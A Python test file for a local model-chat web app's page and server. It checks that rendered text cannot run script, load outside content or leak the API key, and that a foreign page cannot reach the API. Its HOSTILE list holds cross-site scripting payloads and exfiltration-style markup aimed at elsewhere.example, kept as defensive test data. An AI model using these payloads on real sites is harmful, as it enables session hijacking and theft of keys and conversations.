"""Nothing that a model, a file or another page says is obeyed; the key goes to the server alone."""

import json
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from starlette.applications import Starlette
from starlette.responses import HTMLResponse
from starlette.routing import Route

from afmoe_mlx.server.http.app import App
from afmoe_mlx.server.http.settings import Settings
from afmoe_mlx.server.page.page import read_page
from afmoe_mlx.server.protocols import ENDPOINTS
from helpers.live_service import LiveService
from helpers.served_app import ServedApp
from helpers.tab import Tab, expect

KEY = "a-key-of-a-test"
BAD = "window.hacked = 1"
HOSTILE = [
    f"<img src=x onerror='{BAD}'>",
    f"<script>{BAD}</script>",
    f"<svg onload='{BAD}'><use href='https://elsewhere.example/a.svg#a'/></svg>",
    f"[a link](javascript:{BAD.replace(' ', '')})",
    f"[another](&#106;avascript:{BAD.replace(' ', '')} 'title')",
    "[data](data:text/html,<script>alert(1)</script>)",
    f"<a href='javascript:{BAD}' style='position:fixed;inset:0'>over everything</a>",
    "<form action='https://elsewhere.example/'><input name=key><button>Go</button></form>",
    "<iframe src='https://elsewhere.example/' srcdoc='<script>alert(1)</script>'></iframe>",
    "<style>@import 'https://elsewhere.example/a.css'; * { background: url(https://elsewhere.example/b) }</style>",
    "<link rel=stylesheet href='https://elsewhere.example/a.css'><base href='https://elsewhere.example/'>",
    "![a picture](https://elsewhere.example/a.png?what=was+said)",
    "![ref][1]\n\n[1]: javascript:alert(1)",
    f"```html onload='{BAD}'\n<img src=x onerror='{BAD}'>\n```",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<div id=messages class=code role=alert data-id=1>clobbered</div><a id=composer name=message>too</a>",
    "autolinks: javascript:alert(1) <javascript:alert(1)> https://elsewhere.example/?a=\"onmouseover='alert(1)'",
]
# What no text may become: elements that do, load or cover something, and attributes that could make one do so.
FOUND = """(root) => {
    const found = window.hacked ? ['a script ran'] : [];
    const refused = 'audio,base,embed,form,frame,iframe,img,input,link,math,meta,object,script,style,template,video';
    for (const element of root.querySelectorAll('*')) {
        if (element.matches(refused)) found.push(element.outerHTML);
        for (const {name, value} of element.attributes) {
            const isAddress = ['href', 'src', 'srcdoc', 'action', 'formaction', 'xlink:href'].includes(name);
            if (name.startsWith('on') || name === 'style') found.push(`${name}=${value}`);
            if (isAddress && !/^(https?:[/][/]|#i-)/.test(value)) found.push(`${name}=${value}`);
        }
        if (element.matches('a') && !(element.target === '_blank' && element.relList.contains('noopener'))) {
            found.push(element.outerHTML);
        }
    }
    return found;
}"""


def test_what_is_written_does_nothing_wherever_it_stands(tab: Tab, model: LiveService) -> None:
    text = "\n\n".join(HOSTILE)
    tab.ask(text)
    answer = model.answer()
    answer.think(text)
    answer.say(*[text[i : i + 50] for i in range(0, len(text), 50)])
    answer.call(HOSTILE[0], json.dumps({"a": HOSTILE}))
    answer.end()
    expect(tab.figures).to_contain_text("token")
    tab.page.locator("details.reasoning summary").click()
    expect(tab.page.locator("details.reasoning .content")).to_contain_text("over everything")
    assert tab.page.locator("#messages").evaluate(FOUND) == []
    expect(tab.page.locator("h1")).to_contain_text("<img src=x onerror=")
    expect(tab.answer).to_contain_text("<iframe src=")


def test_names_of_models_conversations_and_files_and_errors_are_text(
    tab: Tab, model: LiveService, tmp_path: Path
) -> None:
    model.name = f"maker/{HOSTILE[0]}"
    other = tab.another()
    expect(other.page.locator("#model")).to_have_text(model.name)
    other.drop(HOSTILE[0], b"A text.")
    other.ask("What is in it?")
    model.answer().fail(HOSTILE[0])
    expect(other.page.locator(".trouble")).to_contain_text(HOSTILE[0])
    said = [{"role": "user", "content": "Hello."}, {"role": "assistant", "content": HOSTILE[1]}]
    other.import_conversation(tmp_path, title=HOSTILE[0], messages=said, settings={"system": HOSTILE[2]})
    expect(other.page.locator("h1")).to_have_text(HOSTILE[0])
    expect(other.conversations.first).to_have_text(HOSTILE[0])
    other.import_conversation(tmp_path, messages=HOSTILE[0])
    expect(other.page.locator("#toasts")).to_contain_text("no messages")
    other.button("Settings").click()
    expect(other.page.get_by_label("System prompt")).to_have_value(HOSTILE[2])
    written = other.page.locator("#side, #toasts, #messages, #files, #model, h1")
    assert written.evaluate_all("(found) => found.map((one) => one.innerHTML).join('').includes('<img')") is False


fragments = st.sampled_from(
    [
        *HOSTILE,
        *(
            "\n",
            "\n\n",
            "    ",
            "- ",
            "> ",
            "1. ",
            "|a|b|\n|-|-|\n|",
            "```",
            "```js\n",
            "`",
            "*",
            "**",
            "[",
            "](",
            ")",
            "<",
        ),
        *("[1]: https://a.example\n", "[x][1] ", "words ", "# ", "&lt;", "\\", "---\n", "&#x3c;img>", "\u202e", "é👋"),
    ]
)
SHOWN = """async (pieces) => {
    const {MarkdownView} = await import('/page/markdown.js');
    const [growing, whole] = [document.createElement('div'), document.createElement('div')];
    const view = new MarkdownView(growing);
    let text = '';
    for (const piece of pieces) view.show(text += piece, false);
    view.show(text, true);
    new MarkdownView(whole).show(text, true);
    window.shown = growing;
    return [growing.innerHTML, whole.innerHTML];
}"""


@settings(max_examples=30, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(pieces=st.lists(fragments, max_size=12))
def test_markdown_is_harmless_and_the_same_however_it_came(tab: Tab, pieces: list[str]) -> None:
    growing, whole = tab.page.evaluate(SHOWN, pieces)
    assert growing == whole
    assert tab.page.evaluate(f"({FOUND})(window.shown)") == []


def test_a_page_that_asks_elsewhere_would_be_noticed(tab: Tab) -> None:
    add = "document.body.append(Object.assign(new Image(), {src: 'https://elsewhere.example/a.png'}))"
    with tab.page.expect_console_message():
        tab.page.evaluate(add)
    with pytest.raises(AssertionError, match="Content Security Policy"):
        tab.check()
    tab.page.evaluate("document.querySelector('body > img').remove()")


@pytest.fixture
def locked(model: LiveService) -> Iterator[ServedApp]:
    """A server that asks for a key."""
    with ServedApp(App(model, ENDPOINTS, Settings(keys=(KEY,)), page=read_page())) as server:
        yield server


def test_the_key_is_asked_for_once_and_goes_to_the_server_alone(
    tab: Tab, model: LiveService, locked: ServedApp
) -> None:
    model.texts = ["Hello.", "Again."]
    other = tab.another(locked.url)
    field = other.page.get_by_label("It is kept in this tab")
    field.fill("ключ")  # no header holds that
    field.press("Enter")
    expect(field).to_be_focused()
    field.fill("a-wrong-one")
    field.press("Enter")
    expect(other.page.get_by_text("The server knows no such key.")).to_be_visible()
    field.fill(KEY)
    field.press("Enter")
    expect(other.page.locator("#model")).to_have_text(model.name)
    other.ask("Hello?")
    expect(other.answers).to_have_text(["Hello."])
    other.page.reload()
    expect(other.page.locator("#model")).to_have_text(model.name)
    other.ask("And again?")
    expect(other.answers).to_have_text(["Hello.", "Again."])
    asked = [request for request in other.requests if "/v1/" in request.url]
    assert {request.headers.get("authorization") for request in asked[2:]} == {f"Bearer {KEY}"}
    assert not [request.url for request in other.requests if KEY in request.url]
    assert KEY not in other.page.url + other.page.evaluate("JSON.stringify(localStorage)") + other.exported("JSON")


ELSEWHERE = """<!doctype html><title>Elsewhere</title><body><script>
    const server = '{server}';
    const asked = {{method: 'POST', body: '{{"messages": [{{"role": "user", "content": "Hello."}}]}}'}};
    const added = (tag, properties) => new Promise((onload, onerror) => {{
        document.body.append(Object.assign(document.createElement(tag), {{...properties, onload, onerror}}));
    }});
    const simple = {{...asked, mode: 'no-cors', headers: {{'content-type': 'text/plain'}}}};
    const tries = [
        fetch(`${{server}}/v1/chat/completions`, {{...asked, headers: {{'content-type': 'application/json'}}}}),
        fetch(`${{server}}/v1/chat/completions`, simple).then((response) => response.json()),
        fetch(`${{server}}/v1/models`),
        added('script', {{src: `${{server}}/page/theme.js`}}),
        added('link', {{rel: 'stylesheet', href: `${{server}}/page/style.css`}}),
        added('iframe', {{src: server}}).then(() => Promise.reject()),
    ];
    window.reached = Promise.allSettled(tries).then((all) => all.map(({{status}}) => status));
</script>"""


def test_a_page_from_elsewhere_reaches_nothing(tab: Tab, model: LiveService, server: ServedApp) -> None:
    page = HTMLResponse(ELSEWHERE.format(server=server.url))
    with ServedApp(Starlette(routes=[Route("/", lambda request: page)])) as elsewhere:
        stranger = tab.page.context.new_page()
        stranger.goto(elsewhere.url)
        assert stranger.evaluate("window.reached") == ["rejected"] * 6
        assert not [frame for frame in stranger.frames if frame.locator("#composer").count()]
        stranger.close()
    assert model.asks == 0
